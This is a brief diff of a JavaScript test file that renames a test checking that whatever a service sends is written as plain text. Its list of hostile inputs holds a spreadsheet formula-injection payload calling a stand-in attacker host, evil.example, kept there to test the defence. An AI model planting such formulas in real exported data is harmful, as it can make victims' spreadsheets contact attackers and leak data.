@@ -183,7 +183,7 @@ describe('a technology search', () => {
     expect(world.service.requests).toEqual([]);
   });
 
-  it('lands whatever a service sends as text', () => {
+  it('writes anything that a service sends as plain text', () => {
     const world = World.connected();
     const hostile = [
       '=IMPORTXML("http://evil.example")',
